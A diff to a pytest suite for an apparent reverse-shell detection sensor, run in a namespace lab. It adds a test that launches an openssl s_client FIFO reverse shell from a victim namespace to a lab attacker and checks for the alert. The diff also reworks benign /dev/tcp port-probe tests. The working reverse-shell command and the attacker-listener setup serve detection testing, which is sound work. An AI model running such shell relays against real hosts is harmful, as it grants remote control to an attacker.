@@ -160,6 +160,44 @@ def test_fifo_on_shell_stdin_relay(sensorlab, netlab, tmp_path, ctx) -> None:
             f"> {f}", context=ctx)
 
 
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_openssl_s_client_fifo_relay(sensorlab, netlab, tmp_path, ctx) -> None:
+    """`sh -i < f 2>&1 | openssl s_client -quiet -connect H:P > f` against a TLS attacker (openssl s_server)."""
+    need("openssl")
+    key, cert = tmp_path / "key.pem", tmp_path / "cert.pem"
+    subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes",
+                    "-subj", "/CN=lab", "-days", "1", "-keyout", str(key), "-out", str(cert)], check=True,
+                   capture_output=True, timeout=30)
+    port = next(_ports)
+    host = netlab.attacker_ip4
+    server = netlab.spawn(netlab.attacker_ns, ["timeout", "20", "openssl", "s_server", "-quiet", "-key", str(key),
+                                               "-cert", str(cert), "-accept", f"{host}:{port}"],
+                          stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
+    time.sleep(1.0)
+    mark, emark = sensorlab.alert_mark(), sensorlab.mark()
+    f = _fifo(tmp_path)
+    command, token = tagged(f"rm -f {f}; mkfifo {f}; /bin/sh -i < {f} 2>&1 | openssl s_client -quiet -connect "
+                            f"{host}:{port} > {f} 2>/dev/null")
+    netlab.spawn(netlab.victim_ns, ["timeout", "12", "bash", "-c", in_context(command, ctx)],
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    assert server.stdin is not None and server.stdout is not None
+    server.stdin.write(b"echo cw-$((6*7))\nsleep 1\nexit\n")
+    server.stdin.flush()
+    got = b""
+    deadline = time.monotonic() + 15
+    os.set_blocking(server.stdout.fileno(), False)
+    while b"cw-42" not in got and time.monotonic() < deadline:
+        time.sleep(0.2)
+        got += server.stdout.read() or b""
+    assert b"cw-42" in got, got
+    groups = incidents(c2_alerts(mine(sensorlab.alerts_since(mark, settle=1.5), token)))
+    assert len(groups) == 1
+    hit = [a for a in next(iter(groups.values())) if "reverse_shell" in a["chainwatch"]["signals"]]
+    assert hit and hit[-1]["destination"] == {"ip": host, "port": port}
+    check_context(hit[-1], ctx)
+    record_case(sensorlab, case_name(), emark, token, {"signal": "reverse_shell", "port": port})
+
+
 # A one-shot attacker: accept one connection, type the payload, hang up after a second (a telnet client whose
 # stdout is a pipe shows what it received when the peer hangs up).
 ONE_SHOT = ("import socket,sys,time\ns=socket.socket();s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n"
@@ -374,7 +412,7 @@ def test_curl_polling_beacon(sensorlab, netlab) -> None:
 # ------------------------------------------------------------------ benign
 
 def benign(sensorlab, netlab, command: str, *, exe: str, port: int | None = None, server: list[str] | None = None,
-           ns: str | None = None, timeout: float = 15) -> list[dict]:
+           ns: str | None = None, timeout: float = 15, context: str = "plain") -> list[dict]:
     """Run ``command`` in the victim; prove the sensor saw ``exe`` exec and connect to the lab; return alerts."""
     port = port or next(_ports)
     if server is not None:
@@ -384,7 +422,8 @@ def benign(sensorlab, netlab, command: str, *, exe: str, port: int | None = None
         netlab.listen_tcp(netlab.attacker_ns, port, payload=b"220 lab ready\r\n", duration=timeout, max_conns=5)
     mark, amark = sensorlab.mark(), sensorlab.alert_mark()
     command, token = tagged(command.format(host=netlab.attacker_ip4, port=port))
-    netlab.run(ns or netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", command], timeout=timeout + 5)
+    netlab.run(ns or netlab.victim_ns, ["timeout", str(timeout), "bash", "-c", in_context(command, context)],
+               timeout=timeout + 5)
     seen_exec = sensorlab.wait_for(lambda e: isinstance(e, Exec) and os.path.basename(e.filename) == exe,
                                    since=mark, timeout=10)
     seen_connect = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=mark, timeout=10)
@@ -429,18 +468,11 @@ def test_benign_telnet_banner(sensorlab, netlab, tmp_path) -> None:
     "(exec 3<>/dev/tcp/{host}/{port})",
     "for i in 1 2 3; do (echo > /dev/tcp/{host}/{port}) 2>/dev/null && break; sleep 0.2; done",
 ])
-def test_benign_port_probes(sensorlab, netlab, probe) -> None:
-    """Wait-for-service probes: at most a notice that does not call itself a reverse shell."""
-    quiet(benign(sensorlab, netlab, probe, exe="bash"))
-
-
-def test_benign_port_probe_in_ci_step(sensorlab, netlab, tmp_path) -> None:
-    """The same probe inside a GitHub Actions step (a fake Runner.Worker root) stays a notice."""
-    runner = tmp_path / "Runner.Worker"
-    runner.write_text("#!/bin/bash\nexec bash -c \"$1\"\n")
-    runner.chmod(0o755)
-    quiet(benign(sensorlab, netlab, f"{runner} \"timeout 1 bash -c 'echo > /dev/tcp/{{host}}/{{port}}'\"",
-                 exe="bash"))
+@pytest.mark.parametrize("ctx", CONTEXTS)
+def test_benign_port_probes(sensorlab, netlab, probe, ctx) -> None:
+    """Wait-for-service probes, plain and as a CI step: at most a notice that does not call itself a reverse
+    shell."""
+    quiet(benign(sensorlab, netlab, probe, exe="bash", context=ctx))
 
 
 def test_benign_curl_pipe_sh_outside_context(sensorlab, netlab) -> None:
